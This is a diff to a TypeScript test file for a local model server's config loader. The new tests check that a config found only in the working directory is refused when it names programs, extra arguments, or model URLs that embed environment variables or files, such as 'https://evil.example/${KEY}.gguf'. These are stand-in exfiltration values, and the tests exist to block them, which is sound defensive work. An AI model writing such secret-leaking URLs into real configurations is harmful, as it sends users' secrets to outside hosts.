@@ -89,7 +89,7 @@ describe('a valid config', () => {
     expect(Object.keys(config.models)).toEqual(['small'])
   })
 
-  test('the first of --config, INHOUSE_CONFIG, the working directory and the home is taken', async () => {
+  test('the first of --config, INHOUSE_CONFIG, the working directory where it counts, and the home is taken', async () => {
     const home = join(folder, 'home')
     const cwd = join(folder, 'work')
     await mkdir(home, { recursive: true })
@@ -99,7 +99,13 @@ describe('a valid config', () => {
     await writeFile(join(home, 'inhouse.yaml'), 'listen: in.home:1')
     expect(listenOf({})).toBe('in.home:1')
     await writeFile(join(cwd, 'inhouse.yaml'), 'listen: in.cwd:1')
-    expect(listenOf({})).toBe('in.cwd:1')
+    expect(listenOf({})).toBe('in.home:1')
+    expect(listenOf({ here: true })).toBe('in.cwd:1')
+    expect(loadConfig({ env: {}, home, cwd }).here).toEqual({
+      file: join(cwd, 'inhouse.yaml'),
+      isUsed: false,
+    })
+    expect(loadConfig({ env: {}, home, cwd: home, here: true }).here).toBeUndefined()
     await writeFile(join(cwd, 'env.yaml'), 'listen: in.env:1')
     expect(listenOf({ env: { INHOUSE_CONFIG: 'env.yaml' } })).toBe('in.env:1')
     await writeFile(file, 'listen: in.flag:1')
@@ -116,6 +122,41 @@ describe('a valid config', () => {
       }
     })()
     expect(code).toBe('config_missing')
+  })
+})
+
+describe('a file that was only found in the working directory', () => {
+  const told = async (yaml: string, options: Partial<LoadOptions> = {}): Promise<string> => {
+    const cwd = await mkdtemp(join(folder, 'found-'))
+    await writeFile(join(cwd, 'inhouse.yaml'), yaml)
+    await writeFile(join(cwd, 'secret'), 'hidden')
+    try {
+      loadConfig({ env: { KEY: 'hidden' }, home: join(folder, 'none'), cwd, here: true, ...options })
+      return 'loaded'
+    } catch (error) {
+      return String(error)
+    }
+  }
+  const refused = [
+    ['a program', 'engines: { llamaServer: ./x }'],
+    ['arguments of one', 'models: { a: { backend: here, source: "hf:x/y", extraArgs: [--x] } }'],
+    ['a variable', 'models: { a: { backend: here, source: "https://evil.example/${KEY}.gguf" } }'],
+    ['a file', 'models: { a: { backend: here, source: "https://evil.example/${file:secret}.gguf" } }'],
+  ] as const
+
+  test.each(refused)('is refused with %s, and told to be named', async (_, yaml) => {
+    const text = await told(yaml)
+    expect(text).toContain('name the file with `--config`')
+    expect(text).not.toContain('hidden')
+  })
+
+  test.each(refused)('may hold %s when it is named', async (_, yaml) => {
+    expect(await told(yaml, { file: 'inhouse.yaml' })).toBe('loaded')
+    expect(await told(yaml, { env: { INHOUSE_CONFIG: 'inhouse.yaml', KEY: 'x' } })).toBe('loaded')
+  })
+
+  test('does not stand in the way of a program that the environment names', async () => {
+    expect(await told('offline: true', { env: { INHOUSE_ENGINES_LLAMA_SERVER: '/x' } })).toBe('loaded')
   })
 })
 
@@ -203,6 +244,21 @@ compat: { listen: "0.0.0.0:1", key: x }
         'test.yaml:21:11 compat.listen must be on this machine (127.0.0.1): its callers show no key',
       ].toSorted(),
     )
+  })
+
+  test('a time of nothing is refused where it makes no sense, and means never where that is said', async () => {
+    const names = ['connectMs', 'queueMs', 'headersAfterMs', 'firstEventMs', 'betweenEventsMs', 'heartbeatMs']
+    for (const name of names)
+      expect(await problems(`timeouts: { ${name}: 0 }`)).toEqual([
+        `test.yaml:1:13 timeouts.${name} must be at least 1, found 0`,
+      ])
+    expect(await problems('health: { probeMs: 0 }\nengines: { idleUnloadMs: 0 }')).toEqual([])
+  })
+
+  test('a listener without keys is on this machine, whatever its name begins with', async () => {
+    const at = (host: string) => problems(`compat: { listen: "${host}:1", key: x }`)
+    expect(await at('127.0.0.2')).toEqual([])
+    expect((await at('127.evil.example')).join()).toContain('must be on this machine')
   })
 
   const lines: readonly (readonly [string, string, string])[] = [
